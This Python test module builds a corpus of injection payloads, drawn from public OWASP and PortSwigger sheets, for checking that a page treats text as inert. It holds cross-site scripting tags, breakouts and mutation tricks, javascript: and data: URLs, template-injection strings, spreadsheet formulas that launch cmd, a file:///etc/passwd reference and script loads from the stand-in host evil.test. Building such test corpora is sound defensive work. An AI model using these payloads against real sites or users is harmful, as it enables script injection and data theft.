"""Texts that would run, break out or break the page if anything took them for more than text.

Each calls `hit('…')` or asks for `https://evil.test/`, which a page under test watches for. The forms are those of the
public collections of the field (PortSwigger's and OWASP's cross-site scripting sheets), put together here by tag,
event and context.
"""

from itertools import product

RUN = "hit(1)"
LOAD = "https://evil.test/x"

_TAGS = (
    "<img src=x {}>",
    "<svg {}>",
    "<svg><g {}></g></svg>",
    "<body {}>",
    "<video src=x {}></video>",
    "<audio src=x {}></audio>",
    "<input autofocus {}>",
    "<details open {}>x</details>",
    "<iframe src=x {}></iframe>",
    "<marquee {}>x</marquee>",
    "<math><mi {}>x</mi></math>",
    "<x contenteditable tabindex=1 autofocus {}>x</x>",
)
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onbegin")

_TAGGED = tuple(tag.format(f"{event}={RUN}") for tag, event in product(_TAGS, _EVENTS))

_BREAKOUTS = tuple(
    f"{quote}{end} {event}={RUN} x={quote}"
    for quote, end, event in product(("'", '"', "`", ""), ("", ">"), ("onerror", "onfocus autofocus", "onclick"))
)

_SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<script src={LOAD}></script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<script\x0btype=module>{RUN}</script>",
    f"\x3cscript\x3e{RUN}\x3c/script\x3e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"</script><script>{RUN}</script>",
)

_MUTATED = (
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<template><s><template><s><img src=x onerror={RUN}>x</s></template></s></template>",
    f"<listing>&lt;img onerror={RUN} src=x&gt;</listing>",
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f'<a href="\x00"><img src=x onerror={RUN}></a>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><set attributeName=href to=javascript:{RUN} /></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"/></svg>",
    f"<svg><script href=data:,{RUN}></script></svg>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src={LOAD}>",
    f"<link rel=stylesheet href={LOAD}>",
    f"<link rel=import href={LOAD}>",
    f"<base href={LOAD}>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f'<meta http-equiv=refresh content="0;url={LOAD}">',
    f"<style>@import '{LOAD}';</style>",
    f'<div style="background:url({LOAD})">x</div>',
    f'<div style="width:expression({RUN})">x</div>',
    f"<img src={LOAD}>",
    f'<img srcset="{LOAD} 1x">',
    f"<form action=javascript:{RUN}><button>Go</button></form>",
    f"<button formaction=javascript:{RUN}>Go</button>",
    f"<isindex type=image src=1 onerror={RUN}>",
)

_SCHEMES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"javascript://%0a{RUN}",
    f"javascript:https://example.com/%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    f"vbscript:{RUN}",
    f"feed:javascript:{RUN}",
    f"view-source:javascript:{RUN}",
    "blob:https://evil.test/x",
    "file:///etc/passwd",
)
_CARRIERS = ("{}", "[click]({})", "<{}>", '<a href="{}">click</a>', "![x]({})")
_ADDRESSES = tuple(carrier.format(scheme) for carrier, scheme in product(_CARRIERS, _SCHEMES))

_MARKDOWN = (
    f'[x](https://example.com"onmouseover="{RUN})',
    f"![x]({LOAD})",
    f"[x]: javascript:{RUN}\n[x]",
    f"```html\n<script>{RUN}</script>\n```",
    f"`<img src=x onerror={RUN}>`",
    f"**<b onmouseover={RUN}>x</b>**",
    f'https://example.com/"onmouseover="{RUN}',
    f"https://example.com/<script>{RUN}</script>",
    f"https://user:pass@evil.test@example.com/<img src=x onerror={RUN}>",
)

_TEMPLATES = (
    "{{ 7 | times: 6 }}",
    "{% raw %}<script>hit(1)</script>{% endraw %}",
    "{{ '<script>hit(1)</script>' }}",
    "{% include 'secret' %}",
    "{% assign x = 'y' %}{{ x }}",
    "{{constructor.constructor('hit(1)')()}}",
    "{{ name.__class__.__mro__ }}",
    "${hit(1)}",
    "<%= hit(1) %>",
    "#{hit(1)}",
    "{name.__class__}",
    "%(name)s %n %s",
)

_FORMULAS = (
    '=HYPERLINK("https://evil.test/x","Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)

_UNREADABLE = (
    "\u202eevil\u202c",
    "\u2066\u202e\u2067" * 20 + "x",
    "\u200b\u200c\u200d\ufeff\u00ad",
    "Z\u0351\u0343\u0302" * 40,
    "\u0000"[:0] + "\x01\x02\x1b[31mred\x1b[0m",
    "\ufffe\uffff",
    "👨‍👩‍👧‍👦" * 50,
    "ﷺ" * 60,
    "\u2028\u2029",
    "x" * 3_000,
    "https://example.com/" + "a" * 1_500,
    "<" * 500,
    "\n" * 200 + "x",
)

CORPUS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *_SCRIPTS, *_MUTATED, *_TAGGED, *_BREAKOUTS, *_ADDRESSES, *_MARKDOWN, *_TEMPLATES, *_FORMULAS, *_UNREADABLE,
        )
    )
)  # fmt: skip
"""Every text once."""

SHORT = tuple(one for one in CORPUS if len(one) < 120 and one.strip() and "\n" not in one and one.isprintable())
"""Those that fit a name."""


def batches(size: int = 6_000) -> list[str]:
    """The corpus in messages of at most so many characters."""
    made: list[str] = [""]
    for one in CORPUS:
        if len(made[-1]) + len(one) > size:
            made.append("")
        made[-1] += f"{one}\n\n"
    return made
